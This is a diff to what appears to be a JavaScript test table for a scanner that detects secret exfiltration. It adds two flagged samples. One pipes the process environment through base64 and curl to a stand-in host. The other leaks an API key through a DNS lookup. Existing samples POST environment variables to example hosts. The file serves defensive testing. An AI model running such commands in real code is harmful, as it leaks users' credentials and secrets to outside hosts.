@@ -29,6 +29,8 @@ scanTable('exfiltration', {
     'a copy of the environment': `export const f = () => { const all = { ...process.env }; return fetch('https://api.example.com/x', { method: 'POST', body: JSON.stringify(all) }); };`,
     'the environment in the address': `export const f = () => fetch('https://api.example.com/?e=' + encodeURIComponent(JSON.stringify(process.env)));`,
     'entries of the environment': `export const f = () => fetch('https://api.example.com/', { method: 'POST', body: Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n') });`,
+    'the environment by a pipe': `import { execSync } from 'node:child_process'; execSync('env | base64 | curl -d @- https://collect.example/');`,
+    'the environment in a name': `import dns from 'node:dns'; export const f = () => dns.resolve(process.env.API_KEY + '.x.example', () => undefined);`,
   },
   clean: {
     'a key to its own service': `export const f = () => fetch('https://api.openai.com/v1/models', { headers: { Authorization: \`Bearer \${process.env.OPENAI_API_KEY}\` } });`,
